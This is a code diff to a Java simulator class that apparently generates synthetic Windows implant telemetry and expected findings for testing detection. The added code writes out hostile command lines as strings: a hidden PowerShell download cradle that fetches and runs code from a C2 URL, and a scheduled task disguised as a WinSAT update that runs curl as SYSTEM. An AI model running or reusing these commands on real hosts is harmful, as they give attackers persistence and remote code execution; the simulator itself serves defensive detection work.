@@ -8,12 +8,22 @@ import java.util.SplittableRandom;
  * One implant's story on its host: explorer.exe opens a document in winword.exe, whose macro runs
  * powershell.exe, which starts the implant (DIRECT) or injects it into a victim (INJECTED); then
  * the beaconing process calls back on its {@link ImplantSchedule} until the fleet's time is over.
+ * Its {@link Tradecraft} may move it into the browsing chrome.exe, resolve over IPv6 only or through
+ * the DNS cache service alone, or call back from a new process each time (a scheduled task's
+ * cmd.exe → curl.exe, or a download cradle the macro's powershell.exe starts in a loop).
  */
 final class ImplantActivity implements Activity {
     private static final ProcessImage WINWORD = ProcessImage.at("C:\\Program Files\\Microsoft Office\\root\\Office16\\winword.exe");
     private static final ProcessImage POWERSHELL = ProcessImage.system32("WindowsPowerShell\\v1.0\\powershell.exe");
     private static final ProcessImage RUNDLL32 = ProcessImage.system32("rundll32.exe");
     private static final ProcessImage NOTEPAD = ProcessImage.system32("notepad.exe");
+    private static final ProcessImage SCHTASKS = ProcessImage.system32("schtasks.exe");
+    private static final ProcessImage CMD = ProcessImage.system32("cmd.exe");
+    private static final ProcessImage CURL = ProcessImage.system32("curl.exe");
+    /** A C2 name's TTL (an hour, the registrar's default): callbacks within it are answered from the cache. */
+    private static final long C2_TTL_S = 3600;
+    private static final int NO_RECORDS = 9501;
+    private static final int NAME_ERROR = 9003;
     private static final double SIZE_NOISE = 0.03;
 
     private enum Step { OPEN_DOCUMENT, RUN_MACRO, LAUNCH, INJECT, BEACON }
@@ -28,6 +38,10 @@ final class ImplantActivity implements Activity {
     private final int sendBase;
     private final int receiveBase;
     private final List<Long> callbacks = new ArrayList<>();
+    private final List<ImplantInstance> instances = new ArrayList<>();
+    private final DnsCacheService dnsCache;
+    /** What a new process per callback runs (task or loop tradecraft). */
+    private String instanceCommandLine;
     private Step step = Step.OPEN_DOCUMENT;
     private SimProcess winword;
     private SimProcess powershell;
@@ -42,7 +56,9 @@ final class ImplantActivity implements Activity {
         this.activeUntil = spec.activeForS() == 0 ? Long.MAX_VALUE : firstCallback + spec.activeForS() * Micros.SECOND;
         this.schedule = new ImplantSchedule(spec, fleet.seed(), index, chainStart);
         this.wire = Seeds.random(fleet.seed(), Seeds.IMPLANT_WIRE, index);
-        this.addresses = DnsAnswers.c2Addresses(fleet.seed(), index);
+        this.addresses = spec.tradecraft() == Tradecraft.IPV6_ONLY ? DnsAnswers.c2Ipv6Addresses(fleet.seed(), index)
+                : DnsAnswers.c2Addresses(fleet.seed(), index);
+        this.dnsCache = spec.tradecraft() == Tradecraft.CACHE_ONLY ? new DnsCacheService(host.booted.dnsCache, C2_TTL_S) : null;
         this.sendBase = 120 + wire.nextInt(500);
         this.receiveBase = 60 + wire.nextInt(300);
     }
@@ -84,8 +100,9 @@ final class ImplantActivity implements Activity {
                 if (now >= activeUntil) {
                     return DONE;
                 }
-                callBack(host, now);
-                callbacks.add(now);
+                long callbackAt = spec.tradecraft().newProcessPerCallback() ? startInstance(host, now) : now;
+                callBack(host, callbackAt);
+                callbacks.add(callbackAt);
                 return schedule.nextCallback();
             }
         }
@@ -93,6 +110,33 @@ final class ImplantActivity implements Activity {
 
     private void launch(HostSimulator host, long now) {
         String user = host.booted.user;
+        switch (spec.tradecraft()) {
+            case SCHEDULED_TASK -> {
+                instanceCommandLine = "curl.exe -s -k -o NUL " + c2Url();
+                String task = "\\Microsoft\\Windows\\WinSAT\\WinSATUpdate" + DnsAnswers.hex(wire, 4);
+                SimProcess schtasks = host.startProcess(now, powershell, SCHTASKS, "schtasks.exe /create /f /sc minute /mo "
+                        + Math.max(1, Math.round(spec.sleepS() / 60)) + " /ru SYSTEM /tn \"" + task + "\" /tr \"cmd.exe /c "
+                        + instanceCommandLine + "\"", user, 1);
+                host.schedule(now + Micros.seconds(wire.nextDouble(0.2, 1.5)), (h, t) -> {
+                    h.stopProcess(t, schtasks, 0);
+                    return DONE;
+                });
+                recordTruth(host);
+                stopMacro(host, now);
+                return;
+            }
+            case LOOP -> {
+                instanceCommandLine = "powershell.exe -nop -w hidden -c \"iex(iwr -UseBasicParsing " + c2Url() + ")\"";
+                recordTruth(host);
+                return;
+            }
+            case INTO_BROWSER -> {
+                beacon = host.booted.browser;
+                return;
+            }
+            default -> {
+            }
+        }
         if (spec.delivery() == Delivery.DIRECT) {
             beacon = host.startProcess(now, powershell, RUNDLL32, rundll32CommandLine(user), user, 1);
             finishChain(host, now);
@@ -110,15 +154,102 @@ final class ImplantActivity implements Activity {
         List<LineageEntry> lineage = spec.delivery() == Delivery.INJECTED
                 ? ExpectedLineage.of(host.name, host.processes.ancestry(powershell), beacon)
                 : ExpectedLineage.of(host.name, host.processes.ancestry(beacon), null);
-        host.truth.implant(index, () -> new ImplantTruth(index, host.name, beacon.entityId(host.name), beacon.pid(), beacon.name(),
-                beacon.image().dosPath(), spec.destinationLabel(addresses.get(0)), addresses, spec.c2Port(), spec.mode(),
-                spec.delivery(), spec.sleepS(), spec.jitter(), spec.jitterKind(), spec.missedFraction(), lineage,
-                ExpectedLineage.patientZero(lineage), schedule.missedSlots(), callbacks));
+        instances.add(new ImplantInstance(beacon.entityId(host.name), beacon.pid(), lineage, ExpectedLineage.patientZero(lineage)));
+        recordTruth(host);
+        stopMacro(host, now);
+    }
+
+    /**
+     * The expected findings, read once the corpus is complete: the beaconing process, or for a task
+     * or loop the latest of its per-callback processes, and all of them.
+     */
+    private void recordTruth(HostSimulator host) {
+        // A task or loop that never called back is named by the chain's powershell.exe.
+        List<LineageEntry> chain = ExpectedLineage.of(host.name, host.processes.ancestry(powershell), null);
+        ImplantInstance beforeFirstCallback = new ImplantInstance(powershell.entityId(host.name), powershell.pid(), chain,
+                ExpectedLineage.patientZero(chain));
+        host.truth.implant(index, () -> {
+            ImplantInstance latest = instances.isEmpty() ? beforeFirstCallback : instances.get(instances.size() - 1);
+            SimProcess named = instances.isEmpty() ? powershell : beacon;
+            return new ImplantTruth(index, host.name, latest.entityId(), latest.pid(), named.name(),
+                    named.image().dosPath(), spec.destinationLabel(addresses.get(0)), addresses, spec.c2Port(), spec.mode(),
+                    spec.delivery(), spec.sleepS(), spec.jitter(), spec.jitterKind(), spec.missedFraction(), latest.lineage(),
+                    latest.patientZero(), schedule.missedSlots(), callbacks, spec.tradecraft(),
+                    spec.tradecraft().newProcessPerCallback() ? instances : List.of());
+        });
+    }
+
+    private void stopMacro(HostSimulator host, long now) {
         SimProcess macro = powershell;
         host.schedule(now + Micros.seconds(wire.nextDouble(2, 8)), (h, t) -> {
             h.stopProcess(t, macro, 0);
             return DONE;
         });
+    }
+
+    /**
+     * The process of this callback: the task scheduler's cmd.exe starting curl.exe, or a download
+     * cradle the looping powershell.exe starts; both exit once the callback is done. Returns when the
+     * new process, loaded, starts its callback.
+     */
+    private long startInstance(HostSimulator host, long now) {
+        BootedHost booted = host.booted;
+        SimProcess launcher;
+        long started = now;
+        if (spec.tradecraft() == Tradecraft.SCHEDULED_TASK) {
+            launcher = host.startProcess(now, booted.scheduler, CMD, "C:\\Windows\\system32\\cmd.exe /c " + instanceCommandLine,
+                    BootedHost.SYSTEM_USER, 0);
+            started = now + Micros.millisBetween(wire, 10, 40);
+            beacon = host.startProcess(started, launcher, CURL, instanceCommandLine, BootedHost.SYSTEM_USER, 0);
+        } else {
+            launcher = null;
+            beacon = host.startProcess(now, powershell, POWERSHELL, instanceCommandLine, booted.user, 1);
+        }
+        List<LineageEntry> lineage = ExpectedLineage.of(host.name, host.processes.ancestry(beacon), null);
+        instances.add(new ImplantInstance(beacon.entityId(host.name), beacon.pid(), lineage, ExpectedLineage.patientZero(lineage)));
+        SimProcess instance = beacon;
+        // Callbacks take well under a second; the process lingers a little, then exits with its launcher.
+        host.schedule(now + Micros.seconds(wire.nextDouble(2, 6)), (h, t) -> {
+            h.stopProcess(t, instance, 0);
+            if (launcher != null) {
+                h.stopProcess(t + Micros.millisBetween(wire, 5, 30), launcher, 0);
+            }
+            return DONE;
+        });
+        return started + Micros.millisBetween(wire, 50, 400);
+    }
+
+    /** A lookup's outcome: when the answer was handed out, and the address the implant connects to. */
+    private record Resolved(long at, String address) {
+    }
+
+    /** The C2 name looked up at {@code t} for callback {@code callback}, as the tradecraft shows it. */
+    private Resolved lookUp(HostSimulator host, long t, long callback) {
+        Traffic traffic = host.traffic;
+        switch (spec.tradecraft()) {
+            case IPV6_ONLY -> {
+                // Dual-stack resolvers ask for A too; the C2 zone has none (no records, or a broken server's NXDOMAIN).
+                int failure = wire.nextInt(4) == 0 ? NAME_ERROR : NO_RECORDS;
+                long failed = traffic.resolve(t, beacon, spec.c2Domain(), EtwEvents.QUERY_TYPE_A, failure, DnsAnswers.none());
+                SimulatedDnsAnswer answer = DnsAnswers.rotatingIpv6(addresses, callback);
+                return new Resolved(traffic.resolve(traffic.pause(failed, 0.2, 5), beacon, spec.c2Domain(), EtwEvents.QUERY_TYPE_AAAA,
+                        0, answer), answer.addresses().get(0));
+            }
+            case CACHE_ONLY -> {
+                SimulatedDnsAnswer answer = DnsAnswers.rotating(addresses, callback);
+                return new Resolved(dnsCache.resolve(host, wire, t, beacon, spec.c2Domain(), EtwEvents.QUERY_TYPE_A, answer,
+                        Traffic.INTERFACE_INDEX), answer.addresses().get(0));
+            }
+            default -> {
+                SimulatedDnsAnswer answer = DnsAnswers.rotating(addresses, callback);
+                return new Resolved(traffic.resolve(t, beacon, spec.c2Domain(), EtwEvents.QUERY_TYPE_A, 0, answer),
+                        answer.addresses().get(0));
+            }
+        }
+    }
+
+    private String c2Url() {
+        return "https://" + spec.c2Domain() + "/" + DnsAnswers.hex(wire, 6) + "/" + DnsAnswers.hex(wire, 12);
     }
 
     private String rundll32CommandLine(String user) {
@@ -134,10 +265,9 @@ final class ImplantActivity implements Activity {
                 long t = now;
                 String address = addresses.get(0);
                 if (spec.c2Domain() != null) {
-                    SimulatedDnsAnswer answer = DnsAnswers.rotating(addresses, callback);
-                    t = traffic.resolve(t, beacon, spec.c2Domain(), EtwEvents.QUERY_TYPE_A, 0, answer);
-                    address = answer.addresses().get(0);
-                    t = traffic.pause(t, 0.3, 3);
+                    Resolved resolved = lookUp(host, t, callback);
+                    address = resolved.address();
+                    t = traffic.pause(resolved.at(), 0.3, 3);
                 }
                 TcpConnection connection = traffic.connect(t, beacon, address, spec.c2Port());
                 t = traffic.exchange(traffic.pause(t, 20, 60), connection, noisy(sendBase), noisy(receiveBase));
@@ -148,8 +278,7 @@ final class ImplantActivity implements Activity {
                 if (channel == null) {
                     String address = addresses.get(0);
                     if (spec.c2Domain() != null) {
-                        SimulatedDnsAnswer answer = DnsAnswers.rotating(addresses, 0);
-                        t = traffic.pause(traffic.resolve(t, beacon, spec.c2Domain(), EtwEvents.QUERY_TYPE_A, 0, answer), 0.3, 3);
+                        t = traffic.pause(lookUp(host, t, 0).at(), 0.3, 3);
                     }
                     channel = traffic.connect(t, beacon, address, spec.c2Port());
                     t = traffic.pause(t, 20, 60);
@@ -163,7 +292,10 @@ final class ImplantActivity implements Activity {
             }
             case DNS_ONLY -> {
                 String name = DnsAnswers.hex(wire, 8 + wire.nextInt(9)) + "." + spec.c2Domain();
-                if (wire.nextBoolean()) {
+                if (dnsCache != null) {
+                    dnsCache.resolve(host, wire, now, beacon, name, EtwEvents.QUERY_TYPE_A, DnsAnswers.rotating(addresses, callback),
+                            Traffic.INTERFACE_INDEX);
+                } else if (wire.nextBoolean()) {
                     traffic.resolve(now, beacon, name, EtwEvents.QUERY_TYPE_TXT, 0, DnsAnswers.text(wire));
                 } else {
                     traffic.resolve(now, beacon, name, EtwEvents.QUERY_TYPE_A, 0, DnsAnswers.rotating(addresses, callback));
